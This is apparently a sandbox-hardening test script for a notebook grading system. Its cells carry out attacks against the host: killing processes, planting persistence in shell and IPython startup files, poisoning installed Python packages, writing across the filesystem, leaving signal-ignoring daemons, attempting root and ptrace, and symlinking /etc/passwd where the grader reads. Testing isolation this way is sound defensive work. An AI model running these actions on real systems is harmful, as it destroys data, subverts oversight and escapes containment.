# %% setup
import glob, os, signal, subprocess, sys, time


def write(path):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("owned")
        return True
    except OSError as error:
        print(type(error).__name__)

# %% attack: kills every process
for pid in range(1, 500):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGTERM)
except OSError:
    pass

# %% attack: stops its parent
for number in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(os.getppid(), number)
    except OSError as error:
        print(type(error).__name__)

# %% attack: writes start-up files
for path in ("~/.ipython/profile_default/startup/00.py", "~/.jupyter/jupyter_config.py", "~/.bashrc", "~/.config/matplotlib/matplotlibrc"):
    write(os.path.expanduser(path))

# %% attack: changes installed packages
for root in (os.path.dirname(os.__file__), *sys.path):
    if root:
        write(f"{root}/numpy.py")
        write(f"{root}/sitecustomize.py")
        write(f"{root}/owned.pth")

# %% attack: changes the packages it was given
for path in glob.glob("/packages/**/*.py", recursive=True):
    write(path)
    try:
        os.unlink(path)
    except OSError:
        pass

# %% attack: writes everywhere it can
for root, folders, files in os.walk("/"):
    if root.startswith(("/proc", "/sys")):
        folders.clear()
        continue
    write(f"{root}/owned-by-a-student")

# %% attack: leaves a daemon
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
            print("still here")
    os._exit(0)

# %% attack: leaves a daemon that ignores signals
subprocess.Popen([sys.executable, "-c", "import signal,time\nfor n in range(1, 32):\n  try: signal.signal(n, signal.SIG_IGN)\n  except OSError: pass\nwhile True: time.sleep(1)"], start_new_session=True)

# %% attack: becomes root
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/proc/1/root"), lambda: os.setgroups([0])):
    try:
        call()
        print("canary-5f1c9e became root")
    except OSError as error:
        print(type(error).__name__)

# %% attack: opens devices
for path in glob.glob("/dev/*") + glob.glob("/dev/**/*", recursive=True):
    try:
        os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))
    except OSError:
        pass

# %% attack: raises its own limits
import resource
for name in ("RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_DATA"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
        print("canary-5f1c9e raised")
    except (OSError, ValueError) as error:
        print(type(error).__name__)

# %% attack: closes the kernel's own sockets
for fd in range(3, 256):
    try:
        os.close(fd)
    except OSError:
        pass

# %% attack: aborts
import ctypes
ctypes.string_at(0)

# %% attack: traces its parent and reads its memory
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    print(libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
    try:
        open(f"/proc/{pid}/mem", "r+b").read(1)
        print("canary-5f1c9e read memory")
    except OSError as error:
        print(type(error).__name__)

# %% attack: system calls with a large surface
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name, number in (("memfd_create", 319), ("io_uring_setup", 425), ("userfaultfd", 323), ("bpf", 321), ("keyctl", 250), ("add_key", 248), ("perf_event_open", 298), ("setns", 308), ("unshare", 272), ("open_by_handle_at", 304)) if os.uname().machine == "x86_64" else ():
    if libc.syscall(number, 0, 0, 0, 0, 0) >= 0:
        print("canary-5f1c9e", name)

# %% attack: sends descriptors to the grader over the channels
import array, socket, stat
for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            with socket.socket(fileno=os.dup(fd)) as s:
                s.setblocking(False)
                s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2] * 80))])
    except OSError:
        pass

# %% attack: links and pipes where the grader might look
for target in ("/etc/passwd", "/proc/self/mem", "/", "/dev/zero"):
    for name in ("p4_backward.ipynb", "out.png", ".ipython", "gradebook.db"):
        try:
            os.symlink(target, name)
        except OSError:
            pass
try:
    os.mkfifo("pipe.ipynb")
    os.link("/etc/passwd", "hard")
except OSError as error:
    print(type(error).__name__)

# %% attack: caches and configurations that outlive the kernel
import matplotlib
for path in (matplotlib.get_configdir(), matplotlib.get_cachedir(), os.path.expanduser("~/.ipython"), "/run", "/packages/proof_lm/__pycache__", os.path.join(os.path.dirname(os.__file__), "__pycache__")):
    write(f"{path}/owned.py")

# %% attack: moves the interpreter from its place
for path in (sys.prefix, os.path.dirname(sys.prefix), sys.base_prefix, "/packages", "/tmp"):
    try:
        os.rename(path, path + "-owned")
        print("canary-5f1c9e moved")
    except OSError as error:
        print(type(error).__name__)
